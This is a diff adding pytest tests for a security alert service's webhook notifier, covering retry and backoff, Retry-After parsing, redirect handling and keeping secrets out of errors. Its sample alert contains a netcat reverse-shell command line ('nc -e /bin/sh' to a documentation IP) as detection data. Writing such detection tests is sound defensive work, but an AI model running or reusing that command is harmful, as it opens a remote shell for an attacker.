@@ -1,0 +1,265 @@
+"""Notify stage: registry, pure rendering, and the webhook against a real HTTP receiver."""
+
+from __future__ import annotations
+
+import json
+import socket
+from types import MappingProxyType
+
+import pytest
+from alerts_support import Receiver
+
+from alert_service.errors import NotifyError
+from alert_service.match import Alert, alert_id
+from alert_service.notify import (
+    DEFAULT_REGISTRY,
+    RetryPolicy,
+    WebhookNotifier,
+    WebhookSettings,
+    backoff_secs,
+    deliver,
+    encode_json,
+    parse_retry_after,
+)
+from alert_service.parse import Event
+from alert_service.secret import Secret
+
+FAST = RetryPolicy(max_attempts=3, initial_backoff_secs=0.01, max_backoff_secs=0.05)
+
+
+def make_alert(**columns: str | int | None) -> Alert:
+    cols: dict[str, str | int | None] = {
+        "remote_address": "198.51.100.7",
+        "remote_port": 4444,
+        "name": "nc",
+        "path": "/usr/bin/nc",
+        "cmdline": "nc -e /bin/sh 198.51.100.7 4444 — ünïcode",
+        "pid": 901,
+        "uid": None,
+    }
+    cols.update(columns)
+    event = Event(
+        name="pack_tracked_connections_tracked_connections",
+        pack="tracked_connections",
+        query="tracked_connections",
+        host_identifier="web-01",
+        calendar_time="Tue Sep  2 07:05:09 2025 UTC",
+        unix_time=1756796709,
+        epoch=0,
+        counter=3,
+        action="added",
+        columns=MappingProxyType(cols),
+        decorations=MappingProxyType({"hostname": "web-01.example.com"}),
+    )
+    return Alert(alert_id(event), "reverse-shell", ("local",), event)
+
+
+def webhook(url: str | Secret, **kw: object) -> WebhookNotifier:
+    return WebhookNotifier.from_config("local", {"url": url, **kw})
+
+
+def test_registry_knows_webhook() -> None:
+    assert "webhook" in DEFAULT_REGISTRY.types()
+    assert DEFAULT_REGISTRY.get("webhook") is WebhookNotifier
+    assert WebhookNotifier.type == "webhook"
+
+
+def test_render_is_pure_and_golden() -> None:
+    alert = make_alert()
+    notifier = webhook("http://127.0.0.1:9/unused")
+    first = notifier.render(alert)
+    assert first == {
+        "id": alert.id,
+        "rule": "reverse-shell",
+        "host": "web-01",
+        "query": "pack_tracked_connections_tracked_connections",
+        "action": "added",
+        "unix_time": 1756796709,
+        "epoch": 0,
+        "counter": 3,
+        "connection": {
+            "remote_address": "198.51.100.7",
+            "remote_port": 4444,
+            "name": "nc",
+            "path": "/usr/bin/nc",
+            "cmdline": "nc -e /bin/sh 198.51.100.7 4444 — ünïcode",
+            "pid": 901,
+            "uid": None,
+        },
+        "decorations": {"hostname": "web-01.example.com"},
+    }
+    first["connection"]["pid"] = 0
+    assert notifier.render(alert)["connection"]["pid"] == 901
+    notifier.close()
+
+
+def test_webhook_200(receiver: Receiver) -> None:
+    alert = make_alert()
+    notifier = webhook(
+        receiver.url, headers={"X-Team": "soc", "Authorization": Secret("Bearer t", "env:T")}
+    )
+    try:
+        assert deliver(notifier, alert, FAST) == 1
+    finally:
+        notifier.close()
+    (got,) = receiver.requests
+    assert got.path == "/alerts"
+    assert got.headers["Content-Type"] == "application/json; charset=utf-8"
+    assert got.headers["webhook-id"] == alert.id
+    assert got.headers["X-Team"] == "soc"
+    assert got.headers["Authorization"] == "Bearer t"
+    assert got.headers["User-Agent"].startswith("tracked-connections-alerts/")
+    assert "ünïcode".encode() in got.body  # UTF-8, not \u escapes
+    assert got.json() == alert.as_dict()
+
+
+def test_webhook_500_then_200_is_retried_with_the_same_id(receiver: Receiver) -> None:
+    receiver.script = [(500, {})]
+    retries: list[str] = []
+    notifier = webhook(receiver.url)
+    try:
+        attempts = deliver(
+            notifier, make_alert(), FAST, on_retry=lambda err, delay: retries.append(err.error_type)
+        )
+    finally:
+        notifier.close()
+    assert attempts == 2
+    assert retries == ["http_status"]
+    first, second = receiver.requests
+    assert first.body == second.body
+    assert first.headers["webhook-id"] == second.headers["webhook-id"]
+
+
+def test_webhook_400_is_not_retried(receiver: Receiver) -> None:
+    receiver.script = [(400, {})]
+    notifier = webhook(receiver.url)
+    try:
+        with pytest.raises(NotifyError) as info:
+            deliver(notifier, make_alert(), FAST)
+    finally:
+        notifier.close()
+    assert info.value.retryable is False
+    assert "HTTP 400" in str(info.value)
+    assert "local" in str(info.value)
+    assert len(receiver.requests) == 1
+
+
+def test_webhook_gives_up_after_max_attempts(receiver: Receiver) -> None:
+    receiver.script = [(503, {})] * 5
+    notifier = webhook(receiver.url)
+    try:
+        with pytest.raises(NotifyError) as info:
+            deliver(notifier, make_alert(), FAST)
+    finally:
+        notifier.close()
+    assert info.value.retryable is True
+    assert len(receiver.requests) == 3
+
+
+def test_429_retry_after_is_honoured_within_the_cap(receiver: Receiver) -> None:
+    receiver.script = [(429, {"Retry-After": "1"})]
+    delays: list[float] = []
+    notifier = webhook(receiver.url)
+    policy = RetryPolicy(max_attempts=2, initial_backoff_secs=0.01, max_backoff_secs=0.2)
+    try:
+        deliver(
+            notifier,
+            make_alert(),
+            policy,
+            wait=lambda secs: False,
+            on_retry=lambda err, delay: delays.append(delay),
+        )
+    finally:
+        notifier.close()
+    assert delays == [0.2]
+    assert len(receiver.requests) == 2
+
+
+def test_stop_during_backoff_ends_retries(receiver: Receiver) -> None:
+    receiver.script = [(500, {})] * 3
+    notifier = webhook(receiver.url)
+    try:
+        with pytest.raises(NotifyError):
+            deliver(notifier, make_alert(), FAST, wait=lambda secs: True)
+    finally:
+        notifier.close()
+    assert len(receiver.requests) == 1
+
+
+def test_connection_refused_is_retryable_and_does_not_leak_the_url() -> None:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        port = sock.getsockname()[1]
+    secret_url = Secret(f"http://127.0.0.1:{port}/hook/TOKEN123", "env:HOOK")
+    notifier = webhook(secret_url)
+    try:
+        with pytest.raises(NotifyError) as info:
+            notifier.notify(make_alert())
+    finally:
+        notifier.close()
+    assert info.value.retryable is True
+    assert info.value.error_type == "connection"
+    assert "TOKEN123" not in str(info.value)
+
+
+def test_read_timeout_is_retryable(receiver: Receiver) -> None:
+    receiver.delay_secs = 0.5
+    notifier = webhook(receiver.url, timeout_secs=0.1)
+    try:
+        with pytest.raises(NotifyError) as info:
+            notifier.notify(make_alert())
+    finally:
+        notifier.close()
+    assert info.value.retryable is True
+    assert info.value.error_type == "timeout"
+
+
+def test_redirect_is_not_followed(receiver: Receiver) -> None:
+    receiver.script = [(302, {"Location": "/elsewhere"})]
+    notifier = webhook(receiver.url)
+    try:
+        with pytest.raises(NotifyError) as info:
+            notifier.notify(make_alert())
+    finally:
+        notifier.close()
+    assert info.value.retryable is False
+    assert len(receiver.requests) == 1
+
+
+def test_settings_defaults() -> None:
+    notifier = webhook("https://example.com/h")
+    assert notifier.settings == WebhookSettings(url="https://example.com/h")
+    assert notifier.settings.timeout_secs == 10.0
+    notifier.close()
+
+
+def test_encode_json_falls_back_to_ascii_for_lone_surrogates() -> None:
+    body = encode_json({"a": "x\ud800y", "b": "é"})
+    assert json.loads(body) == {"a": "x\ud800y", "b": "é"}
+    assert encode_json({"b": "é"}) == '{"b":"é"}'.encode()
+    with pytest.raises(NotifyError, match="not JSON"):
+        encode_json({"a": object()})
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("120", 120.0),
+        (None, None),
+        ("", None),
+        ("soon", None),
+        ("Thu, 01 Jan 1970 00:01:40 GMT", 40.0),
+    ],
+)
+def test_parse_retry_after(value: str | None, expected: float | None) -> None:
+    assert parse_retry_after(value, now=60.0) == expected
+
+
+def test_backoff_is_capped_full_jitter() -> None:
+    policy = RetryPolicy(max_attempts=10, initial_backoff_secs=1.0, max_backoff_secs=5.0)
+    assert backoff_secs(policy, 0, rng=lambda: 0.999) == pytest.approx(0.999)
+    assert backoff_secs(policy, 2, rng=lambda: 0.5) == 2.0
+    assert backoff_secs(policy, 30, rng=lambda: 1.0) == 5.0
+    assert backoff_secs(policy, 0, retry_after_secs=3.0, rng=lambda: 0.0) == 3.0
+    assert backoff_secs(policy, 0, retry_after_secs=60.0, rng=lambda: 0.0) == 5.0
+    assert backoff_secs(policy, 10_000, rng=lambda: 1.0) == 5.0
